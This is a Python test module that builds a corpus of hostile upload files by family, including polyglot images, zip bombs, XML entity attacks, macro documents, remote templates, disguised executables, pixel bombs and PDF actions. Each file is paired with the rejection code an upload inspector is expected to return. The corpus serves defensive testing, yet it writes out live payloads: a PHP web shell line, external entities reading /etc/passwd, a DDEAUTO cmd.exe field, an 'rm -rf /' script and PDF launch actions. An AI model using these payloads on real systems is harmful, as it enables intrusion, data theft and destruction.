"""Hostile files by family: what each is named, how it is made, and what must become of it.

`fate` is the code of the refusal, or "kept": then it is harmless wherever it is served, which a browser test shows.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.files import material
from tests.files.test_inspect import BROKEN_PACKAGES, bomb, lying, overlapping

MIB = 1 << 20
KEPT = "kept"
CONTRADICTS = "content_contradicts_name"
# Whatever runs it asks for this address, which nobody may ever do.
CANARY = "/canary"
SCRIPT = f'<script>fetch("{CANARY}");document.write("<img src={CANARY}>")</script>'.encode()
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'' + CANARY.encode() + b"')\">" + SCRIPT + b"</svg>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus."""

    family: str
    name: str
    make: Callable[[], bytes]
    fate: str


def word(**more: bytes | str) -> bytes:
    """A document with further or other members."""
    return material.package({**material.word_package(), **more})


def related(kind: str, target: str, *, mode: str = "External", part: str = "word/_rels/document.xml.rels") -> bytes:
    """A document with one relationship."""
    line = f'<Relationship Id="r1" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return word(**{part: RELS.format(line)})


def typed(content_type: str) -> str:
    """The list of content types with one part of this type."""
    return f'<Types><Override PartName="/a" ContentType="{content_type}"/></Types>'


def field(code: str) -> bytes:
    """A document with a field whose code stands in two runs."""
    half = len(code) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
    return word(**{"word/document.xml": f'<w:document xmlns:w="w"><w:fldChar/>{runs}<w:fldChar/></w:document>'})


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
) + "]><a>&j;</a>"
EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = f'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1{CANARY}"> %x;]><a/>'


def sheet(part: str, content: str | bytes) -> bytes:
    """A workbook with one part of another content."""
    members = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", part: content}
    return material.package(members)


def nested(levels: int) -> bytes:
    """A document in a document in a document."""
    inner = material.docx()
    for _ in range(levels):
        inner = word(**{"word/embeddings/inner.docx": inner})
    return inner


def quine_like() -> bytes:
    """A package whose member says that it holds the package itself: its bytes begin where the file begins."""
    content = word(**{"word/embeddings/self.docx": bytes(2000)})
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        at = package.getinfo("word/embeddings/self.docx").header_offset
    directory = content.index(b"PK\x01\x02")
    return content[:directory] + content[directory:].replace(struct.pack("<I", at), struct.pack("<I", 0))


def zip64_lie() -> bytes:
    content = material.docx()
    at = content.rindex(b"PK\x05\x06")
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, 0, 1)
    return content[:at] + locator + content[at:]


def short_member() -> bytes:
    """The directory says that the main part is longer than it is."""
    content = bytearray(material.package({**material.word_package(), "word/document.xml": "<a>" + "x" * 500 + "</a>"}))
    at = content.index(b"word/document.xml", content.index(b"PK\x01\x02")) - 22
    content[at : at + 4] = struct.pack("<I", 400)
    return bytes(content)


def pdf(*objects: str, end: bytes = b"") -> bytes:
    """A small PDF with a page and further objects; the catalogue opens with object 4."""
    bodies = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
        *objects,
    ]
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(content))
        content += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(content)
    content += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    content += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    content += f"trailer\n<< /Root 1 0 R /Size {len(bodies) + 1} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return content + end


def stream_bomb() -> str:
    """A page tree that lies in a stream of a few bytes which would unpack to much."""
    return "<< /Type /ObjStm /N 1 /First 5 /Length 10 /Filter [/FlateDecode /FlateDecode] >> stream\nx\nendstream"


def frames(count: int, form: str) -> bytes:
    target = io.BytesIO()
    shots = [Image.new("RGB", (8, 8), (number % 256, number // 256, 9)) for number in range(count)]
    shots[0].save(target, form, save_all=True, append_images=shots[1:], duration=20, lossless=True)
    return target.getvalue()


def tall_jpeg(width: int, height: int) -> bytes:
    """A JPEG whose frame header promises another size."""
    content = bytearray(material.picture("JPEG"))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def huge_webp() -> bytes:
    content = bytearray(material.picture("WEBP"))
    at = content.index(b"\x9d\x01\x2a") + 3
    content[at : at + 4] = struct.pack("<HH", 16383, 16383)
    return bytes(content)


def huge_heic() -> bytes:
    content = material.heic()
    return content.replace(
        b"ispe\0\0\0\0" + struct.pack(">II", 320, 240), b"ispe\0\0\0\0" + struct.pack(">II", 60000, 60000)
    )


def packed_text(keyword: bytes) -> bytes:
    """A PNG with a compressed text that would unpack to 100 MB."""
    content = material.picture("PNG")
    body = keyword + b"\0\0" + zlib.compress(bytes(100 * MIB), 9)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    at = content.index(b"IDAT") - 4
    return content[:at] + chunk + content[at:]


def cyclic(first: int) -> bytes:
    """An OLE2 file whose directory leads back to itself."""
    return material.header(first_directory=first) + struct.pack("<128I", *[first] * 128) + bytes(2048)


def packaged() -> bytes:
    """A document with an object of the packager, which holds any file whatever."""
    content = bytearray(material.compound(["Root Entry", "WordDocument", "ObjectPool"]))
    at = content.index("ObjectPool".encode("utf-16-le"))
    content[at + 80 : at + 96] = bytes.fromhex("0c00030000000000c000000000000046")
    return bytes(content)


def dref() -> bytes:
    """A film whose data lie in another file."""
    content = material.video("mov")
    assert b"url \x00\x00\x00\x01" in content
    return content.replace(b"url \x00\x00\x00\x01", b"alis\x00\x00\x00\x00")


def h(family: str, name: str, make: Callable[[], bytes], fate: str) -> Hostile:
    return Hostile(family, name, make, fate)


JPG, PNG = lambda: material.picture("JPEG"), lambda: material.picture("PNG")
CORPUS: list[Hostile] = [
    h("polyglot", "php.jpg", lambda: JPG() + b"<?php system($_GET[0]); ?>", KEPT),
    h("polyglot", "html.jpg", lambda: JPG() + HTML, KEPT),
    h("polyglot", "zip.jpg", lambda: JPG() + material.docx(), KEPT),
    h("polyglot", "jar.png", lambda: PNG() + material.package({"META-INF/MANIFEST.MF": "Main-Class: A"}), KEPT),
    h("polyglot", "comment.jpg", lambda: b"\xff\xd8\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + JPG()[2:], KEPT),
    h("polyglot", "html.pdf", lambda: pdf("<< >>", end=HTML), KEPT),
    h("polyglot", "gif.jpg", lambda: b"GIF89a/*" + SCRIPT + b"*/", CONTRADICTS),
    h("zip bomb", "flat.docx", BROKEN_PACKAGES["unpacks to gigabytes"], "document_unreadable"),
    h("zip bomb", "overlapping.docx", overlapping, "document_unreadable"),
    h("zip bomb", "nested.docx", lambda: nested(3), "document_unreadable"),
    h("zip bomb", "quine.docx", quine_like, "document_unreadable"),
    h("zip bomb", "many.docx", BROKEN_PACKAGES["too many members"], "document_unreadable"),
    h("zip bomb", "directory.docx", BROKEN_PACKAGES["a directory of gigabytes"], "document_unreadable"),
    h("zip lie", "zip64.docx", zip64_lie, "document_unreadable"),
    h("zip lie", "short.docx", short_member, "document_unreadable"),
    h("zip lie", "counts.docx", lambda: lying(material.docx(), at_end={8: b"\x01\x00"}), "document_unreadable"),
    h("zip lie", "checksum.docx", BROKEN_PACKAGES["damaged main part"], "document_unreadable"),
    h("zip lie", "locked.docx", BROKEN_PACKAGES["encrypted"], "document_unreadable"),
    h("members", "climbs.docx", BROKEN_PACKAGES["climbs out"], "document_unreadable"),
    h("members", "absolute.docx", BROKEN_PACKAGES["absolute name"], "document_unreadable"),
    h("members", "link.docx", BROKEN_PACKAGES["link"], "document_unreadable"),
    h("members", "backslash.docx", BROKEN_PACKAGES["backslash"], "document_unreadable"),
    h("entities", "laughs.docx", lambda: word(**{"word/document.xml": LAUGHS}), "document_unreadable"),
    h("entities", "laughs.xlsx", lambda: sheet("xl/sharedStrings.xml", LAUGHS), "document_unreadable"),
    h("entities", "external.docx", lambda: word(**{"customXml/item1.xml": EXTERNAL}), "document_unreadable"),
    h("entities", "external.ofd", lambda: material.package({"OFD.xml": "<a/>", "Doc_0/Document.xml": EXTERNAL}), "document_unreadable"),
    h("entities", "parameter.xlsx", lambda: sheet("xl/styles.xml", PARAMETER), "document_unreadable"),
    h("entities", "hidden.docx", lambda: word(**{"word/media/picture.bin": EXTERNAL}), "document_unreadable"),
    h("entities in UTF-16", "utf16.docx", lambda: word(**{"word/styles.xml": EXTERNAL.encode("utf-16")}), "document_unreadable"),
    h("entities in UTF-16", "utf16be.ofd", lambda: material.package({"OFD.xml": b"\xfe\xff" + LAUGHS.encode("utf-16-be")}), "document_unreadable"),
    h("entities in UTF-16", "utf7.docx", lambda: word(**{"word/a.xml": b"<?xml version='1.0' encoding='utf-7'?>+ADw-a/+AD4-"}), "document_unreadable"),
    h("macros", "docm.docx", lambda: word(**{"word/vbaProject.bin": b"x"}), "document_has_macros"),
    h("macros", "renamed.docx", lambda: word(**{"[Content_Types].xml": typed("application/vnd.ms-office.vbaProject")}), "document_has_macros"),
    h("macros", "related.docx", lambda: related("vbaProject", "a.bin", mode="Internal"), "document_has_macros"),
    h("macros", "streams.doc", lambda: material.compound(["Root Entry", "WordDocument", "Macros", "VBA"]), "document_has_macros"),
    h("macros", "streams.xls", lambda: material.compound(["Root Entry", "Workbook", "_VBA_PROJECT_CUR"]), "document_has_macros"),
    h("macros", "sheet.xlsx", lambda: sheet("[Content_Types].xml", typed("application/vnd.ms-excel.macrosheet+xml")), "document_has_macros"),
    h("remote", "template.docx", lambda: related("attachedTemplate", "https://example.cn/a.dotm", part="word/_rels/settings.xml.rels"), "document_reaches_out"),
    h("remote", "share.docx", lambda: related("image", "file://server/share/a.png"), "document_reaches_out"),
    h("remote", "object.docx", lambda: related("oleObject", "mhtml:http://example.cn/a!x"), "document_reaches_out"),
    h("remote", "frame.docx", lambda: related("frame", "http://example.cn/a.html"), "document_reaches_out"),
    h("commands", "dde.docx", lambda: field('DDEAUTO c:\\windows\\cmd.exe "/k calc"'), "document_reaches_out"),
    h("commands", "dde.xlsx", lambda: sheet("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>"), "document_reaches_out"),
    h("embedded", "chunk.docx", lambda: related("aFChunk", "a.bin", mode="Internal"), "document_embeds_program"),
    h("embedded", "page.docx", lambda: word(**{"word/a.mht": HTML}), "document_embeds_program"),
    h("embedded", "program.docx", lambda: word(**{"word/media/image1.png": b"MZ" + bytes(100)}), "document_embeds_program"),
    h("embedded", "control.docx", lambda: related("control", "activeX1.xml", mode="Internal"), "document_embeds_program"),
    h("embedded", "packager.doc", packaged, "document_embeds_program"),
    h("embedded", "packager.docx", lambda: word(**{"word/embeddings/oleObject1.bin": packaged()}), "document_embeds_program"),
    h("disguise", "page.jpg", lambda: HTML, CONTRADICTS),
    h("disguise", "drawing.png", lambda: SVG, CONTRADICTS),
    h("disguise", "page.doc", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML, CONTRADICTS),
    h("disguise", "rich.doc", lambda: b"{\\rtf1{\\object\\objemb\\objdata 0105}}", CONTRADICTS),
    h("disguise", "script.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", CONTRADICTS),
    h("disguise", "program.mp4", lambda: b"MZ\x90\x00" + bytes(1000), CONTRADICTS),
    h("disguise", "eicar.docx", lambda: EICAR, CONTRADICTS),
    h("playlist", "list.mp4", lambda: b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile:///etc/passwd\n", CONTRADICTS),
    h("playlist", "concat.avi", lambda: b"ffconcat version 1.0\nfile file:///etc/passwd\n", CONTRADICTS),
    h("playlist", "dash.mp4", lambda: b"<?xml version='1.0'?><MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>", CONTRADICTS),
    h("playlist", "behind.avi", lambda: b"RIFF\x00\x10\x00\x00AVI " + b"#EXTM3U\nfile:///etc/passwd\n" * 20, "video_unreadable"),
    h("playlist", "reference.mov", dref, KEPT),
    h("cut container", "cut.mp4", lambda: material.video("mp4")[:-1], "video_unreadable"),
    h("cut container", "cut.mov", lambda: material.video("mov")[:200], "video_unreadable"),
    h("cut container", "cut.mkv", lambda: material.video("matroska")[:200], "video_unreadable"),
    h("cut container", "cut.avi", lambda: material.video("avi", "mpeg4")[:200], "video_unreadable"),
    h("cut container", "cut.wmv", lambda: material.video("asf", "wmv2")[:200], "video_unreadable"),
    h("lying container", "long.mp4", lambda: b"\x00\x00\x00\x18ftypisom" + bytes(12) + b"\x7f\xff\xff\xffmoov", "video_unreadable"),
    h("lying container", "small.mp4", lambda: b"\x00\x00\x00\x18ftypisom" + bytes(12) + b"\x00\x00\x00\x01moov" + b"\xff" * 8, "video_unreadable"),
    h("lying container", "noise.webm", lambda: material.video("webm", "libvpx-vp9")[:300] + b"\xff" * 4000, "video_unreadable"),
    h("pixel bomb", "bomb.png", lambda: bomb(60_000, 60_000), "image_too_many_pixels"),
    h("pixel bomb", "bomb.jpg", lambda: tall_jpeg(65_000, 65_000), "image_too_many_pixels"),
    h("pixel bomb", "bomb.webp", huge_webp, "image_too_many_pixels"),
    h("pixel bomb", "bomb.heic", huge_heic, "image_too_many_pixels"),
    h("pixel bomb", "lying.jpg", lambda: tall_jpeg(9_000, 9_000), KEPT),
    h("frames", "frames.png", lambda: frames(501, "PNG"), "image_too_many_frames"),
    h("frames", "frames.webp", lambda: frames(501, "WEBP"), "image_too_many_frames"),
    h("cut picture", "cut.jpg", lambda: JPG()[:500], "image_unreadable"),
    h("cut picture", "cut.heic", lambda: material.heic()[:2000], "image_unreadable"),
    h("picture text", "text.png", lambda: packed_text(b"Comment"), "image_unreadable"),
    h("pdf acts", "script.pdf", lambda: pdf(f"<< /S /JavaScript /JS (app.launchURL\\('{CANARY}'\\)) >>"), KEPT),
    h("pdf acts", "launch.pdf", lambda: pdf("<< /S /Launch /F (cmd.exe) >>"), KEPT),
    h("pdf acts", "address.pdf", lambda: pdf(f"<< /S /URI /URI (javascript:fetch\\('{CANARY}'\\)) >>"), KEPT),
    h("pdf broken", "endless.pdf", lambda: pdf("<< >>")[:-60], "document_unreadable"),
    h("pdf broken", "empty.pdf", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n", "document_unreadable"),
    h("pdf broken", "loop.pdf", lambda: pdf("<< >>").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "document_unreadable"),
    h("compound", "cycle.doc", lambda: cyclic(1), "document_unreadable"),
    h("compound", "sectors.doc", lambda: material.header(first_directory=1, shift=20) + bytes(2048), "document_unreadable"),
    h("compound", "beyond.doc", lambda: material.header(first_directory=0x7FFFFFFF), "document_unreadable"),
    h("compound", "locked.docx", lambda: material.compound(["Root Entry", "EncryptedPackage"]), "document_encrypted"),
    h("compound", "setup.doc", lambda: material.compound(["Root Entry", "Setup"]), CONTRADICTS),
]  # fmt: skip
